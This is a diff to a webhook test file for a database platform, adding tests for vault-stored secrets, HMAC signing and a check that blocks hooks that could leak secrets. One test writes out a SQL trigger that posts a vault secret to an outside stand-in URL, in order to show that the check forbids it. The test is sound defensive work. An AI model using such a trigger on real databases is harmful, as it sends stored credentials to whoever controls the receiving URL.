@@ -1,14 +1,20 @@
+import { createHmac } from 'node:crypto'
+
 import { vault } from '@basalt/contract/vault/vault'
 import { hookDeliveries } from '@basalt/contract/webhooks/deliveries'
 import { type NewHook, webhooks as routes } from '@basalt/contract/webhooks/webhooks'
 import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
 
+import type { DataContext } from '../../http/context.ts'
+import { findPlanted } from '../../testing/planted-text.ts'
 import type { ConnectedClient } from '../../testing/test-install.ts'
 import {
   type Receiver,
+  saveAgain,
   webhookFixtures,
   type WebhookFixtures,
 } from '../../testing/webhook-fixtures.ts'
+import { trustHook } from './hook-trust.ts'
 
 let fixtures: WebhookFixtures
 let receiver: Receiver
@@ -90,7 +96,8 @@ describe('a hook', () => {
     await owner.call(routes.remove, { params: { ref, id } })
     expect((await list()).hooks).toEqual([])
     const migrations = await run(
-      `select name, statements, rollback from supabase_migrations.schema_migrations order by version`,
+      `select name, statements, rollback from supabase_migrations.schema_migrations
+       where name like '%webhook%' order by version`,
     )
     expect(migrations).toHaveLength(3)
     await run('drop table orders')
@@ -111,6 +118,37 @@ describe('a hook', () => {
       fields: { name: 'The table has a trigger of this name' },
     })
     await expect(create({ name: 'other' }, reader)).rejects.toMatchObject({ code: 403 })
+  })
+
+  test('uses secrets only as a member who may reveal them saved it', async () => {
+    const params = { ref }
+    await owner.call(vault.create, { params, body: { name: 'sent', secret: 'a secret' } })
+    const headers = { Authorization: '{{vault:sent}}' }
+    const id = await create({ headers })
+    const { version } = await find(id)
+    const mark = () =>
+      fixtures.db.query<{ vault_mark: string }>(
+        'select vault_mark from supabase_functions.hook_settings',
+      )
+    const [first] = await mark()
+    expect(first?.vault_mark).toEqual(expect.any(String))
+    const { parts, store } = fixtures.install
+    const project = await store.selectFrom('projects').selectAll().executeTakeFirstOrThrow()
+    const place = { schema: 'public', table: 'orders', name: 'orders hook' }
+    const save = (mayReveal: boolean) => {
+      const context = { project, may: () => mayReveal } as unknown as DataContext
+      return fixtures.db.transaction((tx) => trustHook({ ...parts, store }, tx, { context, place }))
+    }
+    // Its secrets go where they went before.
+    await update(id, { headers, timeout_ms: 2000 }, version)
+    await save(false)
+    expect(await mark()).toEqual([first])
+    await run(`create or replace trigger "orders hook" after insert on orders for each row execute
+      function supabase_functions.http_request('https://example.com/mine', 'POST',
+        '{"Authorization": "{{vault:sent}}"}', '{}', '1000')`)
+    await expect(save(false)).rejects.toMatchObject({ kind: 'forbidden' })
+    await save(true)
+    expect(await mark()).not.toEqual([first])
   })
 
   test.each([
@@ -162,6 +200,56 @@ describe('a hook', () => {
     expect(JSON.stringify(await list())).not.toContain('plain text')
     await update(id, { url: receiver.url, signature: 'none' })
     expect(await find(id)).toMatchObject({ is_signed: false })
+  })
+
+  test('is signed as Standard Webhooks are, with a secret of the vault that is stored nowhere', async () => {
+    const planted = 'planted-secret-of-a-signature'
+    const token = 'planted-token-of-a-header'
+    receiver = await fixtures.receiver()
+    receiver.answer(({ request }, response) => {
+      response.setHeader('x-echo', request.headers.authorization ?? '')
+      response.statusCode = 500
+      response.end(JSON.stringify(request.headers))
+    })
+    for (const [name, secret] of [
+      ['signing', planted],
+      ['token', token],
+    ] as const) {
+      // oxlint-disable-next-line no-await-in-loop -- two
+      await owner.call(vault.create, { params: { ref }, body: { name, secret } })
+    }
+    await fixtures.hook('signed', receiver.url, {
+      headers: JSON.stringify({ Authorization: 'Bearer {{vault:token}}' }),
+      maxAttempts: 1,
+      secret: '{{vault:signing}}',
+    })
+    const first = fixtures.deliver()
+    await run('insert into signed values (1)')
+    await ended(1)
+    // Everybody who may write SQL could have sent the secret to this receiver.
+    expect(await fixtures.outcomes('signed')).toMatchObject([
+      { status: 'dead', error: expect.stringContaining('member who may reveal secrets') },
+    ])
+    expect(receiver.arrivals).toEqual([])
+    await first.close()
+    await saveAgain(fixtures, 'signed_hook')
+    fixtures.deliver()
+    await run('insert into signed values (2)')
+    await arrived(1)
+    await ended(2)
+    const [{ request, body } = expect.fail()] = receiver.arrivals
+    const {
+      'webhook-id': id,
+      'webhook-timestamp': at,
+      'webhook-signature': signature,
+    } = request.headers
+    const expected = createHmac('sha256', planted).update([id, at, body].join('.')).digest('base64')
+    expect(signature).toBe(`v1,${expected}`)
+    expect(Math.abs(Number(at) - Date.now() / 1000)).toBeLessThan(60)
+    expect(request.headers.authorization).toBe(`Bearer ${token}`)
+    const rows = await run('select * from supabase_functions.deliveries')
+    expect(JSON.stringify(rows)).toContain('Bearer {{vault:token}}')
+    expect(await findPlanted(fixtures.install, ref, [token, planted])).toEqual([])
   })
 
   test('keeps its events while it is paused, and sends a test', async () => {
